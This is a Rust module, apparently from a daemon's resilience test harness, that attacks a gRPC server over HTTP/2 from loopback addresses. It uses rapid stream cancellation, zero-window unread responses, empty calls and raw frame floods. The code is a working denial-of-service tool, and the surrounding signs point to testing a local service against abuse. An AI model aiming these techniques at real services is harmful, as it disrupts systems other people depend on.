//! Calls over HTTP/2 as no client of gRPC makes them.

use std::net::SocketAddr;
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::Duration;

use crate::flood::Frames;
use bytes::{BufMut, Bytes, BytesMut};
use h2::client::{ResponseFuture, SendRequest};
use h2::{Reason, SendStream};
use http::Request;
use tokio::net::TcpSocket;
use tokio::task::JoinSet;

/// What is done to calls.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum How {
    /// They are cancelled some milliseconds after they were made.
    Cancelled,
    /// Their answers are not read.
    Unread,
    /// Their messages do not come.
    Empty,
    /// Nothing: each is followed by the next.
    Whole,
    /// There are none: these frames without end.
    Flood(Frames),
}

/// A call.
#[derive(Clone)]
pub(crate) struct Call {
    pub(crate) path: &'static str,
    /// The message, as protobuf has it.
    pub(crate) message: Vec<u8>,
}

/// The attacker.
pub(crate) struct Attack {
    pub(crate) how: How,
    /// Its source addresses, 127.0.9.1 and the following ones.
    pub(crate) addresses: u8,
    /// Connections from each of them.
    pub(crate) connections: usize,
    /// Calls at a time on each of these, which take turns.
    pub(crate) calls: usize,
    pub(crate) what: Vec<Call>,
}

/// An attack under way; it ends when this is dropped.
pub(crate) struct UnderWay {
    _lines: JoinSet<()>,
    begun: Arc<AtomicU64>,
}

impl Attack {
    /// Begins it.
    pub(crate) fn on(self, at: SocketAddr) -> UnderWay {
        let begun = Arc::<AtomicU64>::default();
        let mut lines = JoinSet::new();
        let sources = (1..=self.addresses).flat_map(|last| vec![[127, 0, 9, last]; self.connections]);
        for source in sources {
            let (how, calls, begun) = (self.how, self.calls, begun.clone());
            let what: Arc<[Call]> = self.what.clone().into();
            lines.spawn(async move {
                loop {
                    // It ends with its connection, which the daemon may close or refuse.
                    let line = Line { how, calls, what: what.clone(), begun: begun.clone() };
                    let _ = line.attack(source, at).await;
                    tokio::time::sleep(Duration::from_millis(50)).await;
                }
            });
        }
        UnderWay { _lines: lines, begun }
    }
}

impl UnderWay {
    /// How many calls were made.
    pub(crate) fn begun(&self) -> u64 {
        self.begun.load(Ordering::Relaxed)
    }
}

/// One connection.
#[derive(Clone)]
struct Line {
    how: How,
    calls: usize,
    what: Arc<[Call]>,
    begun: Arc<AtomicU64>,
}

type Error = Box<dyn std::error::Error + Send + Sync>;

impl Line {
    async fn attack(self, source: [u8; 4], at: SocketAddr) -> Result<(), Error> {
        let socket = TcpSocket::new_v4()?;
        socket.bind((source, 0).into())?;
        let mut stream = socket.connect(at).await?;
        if let How::Flood(frames) = self.how {
            return Ok(frames.flood(&mut stream, &self.begun).await?);
        }
        let window = if self.how == How::Unread { 0 } else { 1 << 16 };
        let mut builder = h2::client::Builder::new();
        // What comes for calls that were cancelled long ago is no error.
        builder.initial_window_size(window).max_concurrent_reset_streams(1 << 16);
        let (client, connection) = builder.handshake(stream).await?;
        let mut each = JoinSet::new();
        // It answers PINGs.
        each.spawn(async move { Ok(connection.await?) });
        if self.how == How::Cancelled {
            each.spawn(self.cancel(client));
        } else {
            for n in 0..self.calls {
                each.spawn(self.clone().hold(client.clone(), n));
            }
        }
        each.join_next().await.map_or(Ok(()), |ended| ended?)
    }

    async fn cancel(self, mut client: SendRequest<Bytes>) -> Result<(), Error> {
        loop {
            let mut calls = Vec::new();
            for n in 0..self.calls {
                calls.push(self.begin(&mut client, n).await?);
            }
            tokio::time::sleep(Duration::from_millis(4)).await;
            for (_, mut body) in calls {
                body.send_reset(Reason::CANCEL);
            }
        }
    }

    /// Keeps one call under way.
    async fn hold(self, mut client: SendRequest<Bytes>, n: usize) -> Result<(), Error> {
        loop {
            let (answer, _body) = self.begin(&mut client, n).await?;
            let mut answer = answer.await?.into_body();
            // Where the window is 0, none comes.
            while let Some(data) = answer.data().await {
                let length = data?.len();
                answer.flow_control().release_capacity(length)?;
            }
            if self.how != How::Whole {
                tokio::time::sleep(Duration::from_millis(50)).await;
            }
        }
    }

    async fn begin(
        &self,
        client: &mut SendRequest<Bytes>,
        n: usize,
    ) -> Result<(ResponseFuture, SendStream<Bytes>), Error> {
        let call = &self.what[n % self.what.len()];
        std::future::poll_fn(|cx| client.poll_ready(cx)).await?;
        let request = Request::post(format!("http://attack{}", call.path));
        let request = request.header("content-type", "application/grpc").header("te", "trailers");
        let (answer, mut body) = client.send_request(request.body(())?, false)?;
        if self.how != How::Empty {
            let mut framed = BytesMut::new();
            framed.put_u8(0);
            framed.put_u32(call.message.len() as u32);
            framed.put_slice(&call.message);
            body.send_data(framed.freeze(), true)?;
        }
        self.begun.fetch_add(1, Ordering::Relaxed);
        Ok((answer, body))
    }
}
